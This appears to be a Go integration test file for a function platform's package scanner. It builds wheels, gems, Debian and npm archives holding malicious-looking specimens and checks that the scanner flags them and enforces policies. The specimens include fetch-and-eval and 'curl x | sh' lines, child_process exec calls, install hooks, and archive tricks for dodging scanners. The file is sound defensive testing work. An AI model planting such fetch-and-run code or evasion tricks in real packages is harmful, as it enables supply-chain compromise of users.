package integration

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/pipsqueak-faas/pipsqueak/core"
	"github.com/pipsqueak-faas/pipsqueak/core/coretest"
)

// What does a scan find?

// TestScanFindsAttacks packs packages as attacks of the past had them, each beside things that look alike and
// are none.
func TestScanFindsAttacks(t *testing.T) {
	coretest.Requires(t, Root, Cgroups, Runtime("python3"), Runtime("node"), Runtime("ruby"), Runtime("dpkg-deb"))
	dir := t.TempDir()
	want := map[string][]string{}
	for _, specimen := range specimens {
		want[specimen.archive] = places(specimen.content, specimen.besides...)
		pack(t, filepath.Join(dir, specimen.archive), maps.Clone(specimen.content))
	}
	out := filepath.Join(t.TempDir(), "scan.jsonl")
	said, status := scan(t, dir, "--out", out)
	if status != 0 {
		t.Fatalf("status %d: %s", status, said)
	}
	found := results(t, out)
	for _, specimen := range specimens {
		var got []string
		if one := found[filepath.Join(dir, specimen.archive)]; one.Error != "" || one.Package == "" {
			t.Errorf("%s was not scanned: %q", specimen.archive, one.Error)
		}
		for _, s := range found[filepath.Join(dir, specimen.archive)].Suspicions {
			got = append(got, fmt.Sprintf("%s %s:%d", s.Rule, s.File, s.Line))
			if s.Reason == "" || s.Package != found[filepath.Join(dir, specimen.archive)].Package {
				t.Errorf("%+v", s)
			}
		}
		slices.Sort(got)
		if !slices.Equal(got, want[specimen.archive]) {
			t.Errorf("%s (%s): found\n%s\nwant\n%s\n%s", specimen.archive, specimen.like, strings.Join(got, "\n"), strings.Join(want[specimen.archive], "\n"), found[filepath.Join(dir, specimen.archive)].Error)
		}
	}
}

// TestScanUnwilling scans archives that do not want to be read: what is in them is found all the same.
func TestScanUnwilling(t *testing.T) {
	coretest.Requires(t, Root, Cgroups, Runtime("ruby"), Runtime("dpkg-deb"))
	dir, tree := t.TempDir(), t.TempDir()
	evil := "require 'net/http'\neval(Net::HTTP.get('x', '/'))\n"
	gem := func(name, metadata string, content files) {
		path := filepath.Join(tree, name)
		content.write(t, path)
		for _, command := range [][]string{{"chmod", "-R", "000", path + "/lib"}, {"tar", "-C", path, "-czf", path + "/data.tar.gz", "lib"}} {
			ruby(t, tree, command...)
		}
		data, err := os.ReadFile(path + "/data.tar.gz")
		if err != nil {
			t.Fatal(err)
		}
		out := packTar(t, "", files{"metadata.gz": string(packGzip(t, []byte(metadata))), "data.tar.gz": string(data)})
		if err := os.WriteFile(filepath.Join(dir, name), out, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	gem("bytes-1.0.gem", "--- !ruby/object:Gem::Specification\nname: bytes\nversion: !ruby/object:Gem::Version\n  version: '1.0'\nsummary: \xff\n", files{"lib/\xff.rb": evil, "lib/\xff": "x"})
	gem("flow-1.0.gem", `{"name": "flow", "version": {"version": 1.0}, "extensions": ["./lib/build"]}`, files{"lib/build": evil})
	deb := filepath.Join(tree, "deb")
	files{"DEBIAN/control": "Package: bare\nVersion: 1.0\nArchitecture: all\nDescription: x\n", "usr/bin/bare": "#!/bin/sh\ncurl x | sh\n"}.write(t, deb)
	ruby(t, tree, "chmod", "-R", "000", deb+"/usr/bin/bare")
	ruby(t, tree, "chmod", "755", deb+"/DEBIAN")
	ruby(t, tree, "dpkg-deb", "--nocheck", "--build", deb, filepath.Join(dir, "bare_1.0_all.deb"))
	out := filepath.Join(t.TempDir(), "scan.jsonl")
	if said, status := scan(t, dir, "--out", out); status != 0 {
		t.Fatalf("status %d: %s", status, said)
	}
	found := results(t, out)
	for archive, want := range map[string]string{"bytes-1.0.gem": "bytes==1.0 hidden-code lib/?.rb:2", "flow-1.0.gem": "flow==1.0 hidden-code lib/build:2", "bare_1.0_all.deb": "debian+bare==1.0 hidden-code usr/bin/bare:2"} {
		one := found[filepath.Join(dir, archive)]
		if !slices.ContainsFunc(one.Suspicions, func(s core.Suspicion) bool {
			return fmt.Sprintf("%s %s %s:%d", one.Package, s.Rule, s.File, s.Line) == want
		}) {
			t.Errorf("%s: %+v, want %q", archive, one, want)
		}
	}
}

// TestScanStatus is what the program exits with, and what it does with archives that are none.
func TestScanStatus(t *testing.T) {
	coretest.Requires(t, Root, Cgroups, Runtime("python3"), Runtime("node"), Runtime("ruby"), Runtime("dpkg-deb"))
	dir := t.TempDir()
	wheel := filepath.Join(dir, "bad-1.0-py3-none-any.whl")
	pack(t, wheel, files{"bad.py": "import os\nos.system('id')\n", "bad-1.0.dist-info/METADATA": "Name: bad\nVersion: 1.0\n"})
	write := func(name, text string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	refuse := write("refuse.yaml", "rules:\n  process: refuse\n")
	excepted := write("excepted.yaml", "rules:\n  process: refuse\nexceptions:\n  - package: bad\n    version: \"1.0\"\n    reason: it is a test\n    until: 2126-01-01\n")
	list := write("list.txt", "# a list\n\nbad-1.0-py3-none-any.whl\n")
	for _, test := range []struct {
		name   string
		args   []string
		status int
		said   string
	}{
		{"warns", []string{wheel}, 0, "bad.py:2"},
		{"refuses", []string{wheel, "--policy", refuse}, 1, "refuse.yaml:2"},
		{"excepts", []string{wheel, "--policy", excepted}, 0, "excepted.yaml:4"},
		{"a list", []string{list, "--policy", refuse}, 1, "bad.py:2"},
		{"as json", []string{wheel, "-o", "json"}, 0, `"rule": "process"`},
		{"a wrong policy", []string{wheel, "--policy", write("wrong.yaml", "rules:\n  programs: refuse\n")}, 2, "line 2"},
		{"a wrong list", []string{write("wrong.txt", "nothing.whl\n")}, 2, "line 1"},
		{"nothing", []string{t.TempDir()}, 2, "nothing to scan"},
		{"not there", []string{"/nonexistent"}, 2, "no such file"},
		{"another runtime", []string{wheel, "--runtime", "python9.9"}, 2, "python9.9"},
		{"no jobs", []string{wheel, "--jobs", "0"}, 2, "--jobs"},
		{"an empty wheel", []string{write("empty-1-py3-none-any.whl", "")}, 2, "cannot be unpacked"},
		{"a wrong sdist", []string{write("wrong-1.tar.gz", "no archive")}, 2, "cannot be unpacked"},
		{"a wrong npm package", []string{write("wrong-1.tgz", "no archive")}, 2, "cannot be unpacked"},
		{"a wrong gem", []string{write("wrong-1.gem", "no archive")}, 2, "cannot be unpacked"},
		{"a wrong Debian package", []string{write("wrong_1_all.deb", "no archive")}, 2, "cannot be unpacked"},
	} {
		t.Run(test.name, func(t *testing.T) {
			said, status := scan(t, test.args...)
			if status != test.status || !strings.Contains(said, test.said) {
				t.Errorf("status %d, want %d, and %q in:\n%s", status, test.status, test.said, said)
			}
		})
	}
}

// TestScanAtDeploy deploys with policies: what they refuse is not deployed, and each decision is in the log.
func TestScanAtDeploy(t *testing.T) {
	system(t)
	policy := filepath.Join(t.TempDir(), "policy.yaml")
	write := func(text string) {
		if err := os.WriteFile(policy, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	f := handlerFile("import markupsafe\n\ndef handler(event, context):\n    return str(markupsafe.escape('<'))\n").with("requirements.txt", "markupsafe==3.0.2\n")
	data := t.TempDir()
	write("rules:\n  binary: refuse\n")
	w := startWorker(t, data, "--scan-policy", policy)
	e := w.put(t, "strict", f).expectError(t, core.KindInstall, core.FaultCaller, 422)
	for _, word := range []string{"policy.yaml:2", "markupsafe==3.0.2", "_speedups", "exception"} {
		if !strings.Contains(e.Message, word) {
			t.Errorf("the error does not say %q: %s", word, e.Message)
		}
	}
	w.ask(t, "GET", "/v1/functions/strict", nil).expectError(t, core.KindNotFound, core.FaultCaller, 404)
	if err := w.stop(); err != nil {
		t.Fatal(err)
	}
	write("rules:\n  binary: refuse\nexceptions:\n  - package: markupsafe\n    reason: it is known\n")
	w = startWorker(t, data, "--scan-policy", policy)
	w.deploy(t, "strict", f)
	if a := w.run(t, "strict", "{}"); !strings.Contains(string(a.body), "&lt;") {
		t.Errorf("it answers %s", a.body)
	}
	if log := w.logs.String(); !strings.Contains(log, "decision=allow") || !strings.Contains(log, "by=policy.yaml:4") {
		t.Errorf("the decision is not in the log:\n%s", log)
	}
}

// TestScanOddArchives scans npm archives that are made to be read otherwise than npm reads them.
func TestScanOddArchives(t *testing.T) {
	coretest.Requires(t, Root, Cgroups, Runtime("node"))
	dir := t.TempDir()
	write := func(name string, headers ...tar.Header) {
		var out bytes.Buffer
		w := tar.NewWriter(&out)
		for _, h := range headers {
			text := h.PAXRecords["text"]
			h.PAXRecords, h.Mode, h.Size = nil, 0o644, int64(len(text))
			err := w.WriteHeader(&h)
			if _, werr := w.Write([]byte(text)); err != nil || werr != nil {
				t.Fatal(err, werr)
			}
		}
		if err := errors.Join(w.Close(), os.WriteFile(filepath.Join(dir, name), packGzip(t, out.Bytes()), 0o644)); err != nil {
			t.Fatal(err)
		}
	}
	file := func(name, text string) tar.Header {
		return tar.Header{Name: name, Typeflag: tar.TypeReg, PAXRecords: map[string]string{"text": text}}
	}
	manifest := file("package/package.json", `{"name":"p","version":"1.0.0","scripts":{"install":"node x"}}`)
	write("two.tgz", file("aaa/package.json", `{"name":"innocent","version":"1.0.0"}`), manifest, file("package/index.js", "require('child_process').exec('id')"))
	write("data.tgz", file("package/package.json", `{"name":"d","version":"1.0.0","main":"./logo.txt"}`), file("package/logo.txt", "require('child_process').exec('id')"))
	started := func(how, does string) []tar.Header {
		return []tar.Header{file("package/package.json", `{"name":"o","version":"1.0.0"}`), file("package/index.js", how), file("package/lib/run.js", does)}
	}
	for name, files := range map[string][]tar.Header{
		"require.tgz":  started("require('./lib/run').go();", "exports.go = () => require('child_process').exec('id');"),
		"default.tgz":  started("require('./lib/run.js')();", "const cp = require('child_process');\nmodule.exports = function () { cp.spawn('id'); };"),
		"object.tgz":   started("const { go } = require('./lib/run');\nfunction later() { go(); }\nlater();", "const { exec } = require('child_process');\nfunction go() { exec('id'); }\nmodule.exports = { go };"),
		"import.tgz":   started("import { go as start } from './lib/run.js';\nstart();", "import { exec } from 'child_process';\nexport const go = () => exec('id');"),
		"all.tgz":      started("import * as run from './lib/run.js';\nrun.go();", "import { exec } from 'child_process';\nexport { inner as go };\nfunction inner() { exec('id'); }"),
		"other.tgz":    started("import go from './lib/run.js';\ngo();", "import { execFile } from 'child_process';\nexport default () => execFile('id');"),
		"innocent.tgz": started("const run = require('./lib/run');\nexports.go = () => run.go();\nrun.other();", "exports.go = () => require('child_process').exec('id');\nexports.other = () => 1;"),
	} {
		write(name, files...)
	}
	write("fifo.tgz", tar.Header{Name: "package/package.json", Typeflag: tar.TypeFifo})
	write("link.tgz", tar.Header{Name: "package/package.json", Typeflag: tar.TypeSymlink, Linkname: "/dev/zero"})
	out := filepath.Join(t.TempDir(), "scan.jsonl")
	if said, status := scan(t, dir, "--out", out); status != 2 {
		t.Errorf("status %d: %s", status, said)
	}
	found := results(t, out)
	two := found[filepath.Join(dir, "two.tgz")]
	if two.Package != "p==1.0.0" || len(two.Suspicions) != 2 {
		t.Errorf("%+v", two)
	}
	if data := found[filepath.Join(dir, "data.tgz")]; len(data.Suspicions) != 2 || data.Suspicions[0].Rule != "hidden-code" || data.Suspicions[1].Rule != "process" {
		t.Errorf("%+v", data)
	}
	for _, name := range []string{"require.tgz", "default.tgz", "object.tgz", "import.tgz", "all.tgz", "other.tgz"} {
		if one := found[filepath.Join(dir, name)]; len(one.Suspicions) != 1 || one.Suspicions[0].Rule != "process" || one.Suspicions[0].File != "index.js" {
			t.Errorf("%s: %+v", name, one)
		}
	}
	if one := found[filepath.Join(dir, "innocent.tgz")]; len(one.Suspicions) != 0 {
		t.Errorf("%+v", one)
	}
	for _, name := range []string{"fifo.tgz", "link.tgz"} {
		if one := found[filepath.Join(dir, name)]; !strings.Contains(one.Error, "there is no package.json in it") {
			t.Errorf("%+v", one)
		}
	}
}
